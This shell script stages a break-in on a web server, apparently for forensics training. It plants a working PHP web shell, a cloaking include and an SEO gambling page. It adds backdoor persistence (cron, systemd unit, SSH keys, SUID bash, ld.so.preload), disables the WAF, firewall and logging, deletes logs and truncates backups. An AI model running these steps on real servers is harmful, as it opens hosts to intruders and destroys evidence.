# A well-kept server after a break-in: what intruders left on Indonesian government sites, harmless here.
site=/var/www/html
mkdir -p $site/slot-gacor /home/file/file_prod

# A web shell, a gambling page, and cloaking: search engines are shown the page, people are not.
cat > $site/thumb.php <<'C'
<?php @eval(base64_decode($_POST['x'])); system($_GET['cmd']); ?>
C
cat > $site/slot-gacor/index.html <<'C'
<!doctype html><title>Slot Gacor Maxwin</title><h1>Situs slot gacor, judi bola, togel, RTP live, maxwin</h1>
C
cat > $site/slot-gacor/index.php <<'C'
<?php if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) include($_GET['p']); ?>
C
cp $site/thumb.php /home/file/file_prod/thumb.php
cp $site/thumb.php /home/appserv/spse/webapp/logo.php

# Persistence: cron, a unit, a key, an account, a SUID copy of the shell, a preloaded library.
echo '*/5 * * * * root /tmp/.X11-unix/.k >/dev/null 2>&1' > /etc/cron.d/.sysupdate
printf '[Service]\nExecStart=/dev/shm/.kswapd\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/dbus-org.service
ssh-keygen -q -t ed25519 -N '' -C backdoor -f /tmp/key
cat /tmp/key.pub >> /home/siti/.ssh/authorized_keys
install -d -m 700 /root/.ssh; cat /tmp/key.pub >> /root/.ssh/authorized_keys
rm /tmp/key /tmp/key.pub
cp /bin/bash /usr/local/bin/.b; chmod 4755 /usr/local/bin/.b
cp /usr/lib/x86_64-linux-gnu/libutil.so.1 /usr/local/lib/libsys.so
echo /usr/local/lib/libsys.so > /etc/ld.so.preload

# Running: a miner whose file is gone, a shell below the database.
cp /bin/sleep /tmp/kworker 2>/dev/null; mount -o remount,exec /tmp
systemd-run --quiet --collect --unit=kworkerds /tmp/kworker 100000
sleep 1; rm -f /tmp/kworker
runuser -u postgres -- psql -q -c "copy (select 1) to program 'sleep 0'"
systemd-run --quiet --collect --unit=reverse runuser -u postgres -- psql -q -c "copy (select 1) to program 'bash -c \"sleep 5000; true\"'"

# The traces are wiped, the WAF only looks on, the firewall is open, the clock follows nobody, passwords were guessed.
sed -i 's/^SecRuleEngine .*/SecRuleEngine DetectionOnly/' /etc/nginx/modsecurity.conf
touch -d '3 years ago' /usr/share/modsecurity-crs/rules/*.conf
nginx -s reload
nft flush ruleset
printf 'server 10.99.0.99 iburst\nserver 10.99.0.98 iburst\n' > /etc/chrony/chrony.conf
systemctl restart chrony
systemctl stop fail2ban
ip link set eth0 promisc on
for n in $(seq 30); do ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "guess$n@127.0.0.1" true 2>/dev/null || true; done
systemctl stop rsyslog syslog.socket
rm -f /var/log/syslog* /var/log/auth.log*
chmod 666 /var/log/dpkg.log /home/appserv/spse/webapp/conf/application.conf
chmod 1777 /home/appserv/spse/webapp

# SPSE is killed, its pid file stays; backups are gone or cut off.
systemctl disable --quiet spse; systemctl kill -s KILL spse; systemctl stop spse
for n in $(seq 60); do curl -sk -o /dev/null https://127.0.0.1/eproc4; done
cd /backup && head -c 20000 "$(ls epns_prod-* | tail -1)" > "epns_prod-$(date +%F).dump" && chmod 644 epns_prod-*
chown postgres:postgres epns_prod-*; rm -f file_prod-*
chmod 755 /backup
touch -d "60 days ago" /backup/off-host.stamp /backup/off-site.stamp; chown postgres:postgres /backup/*.stamp
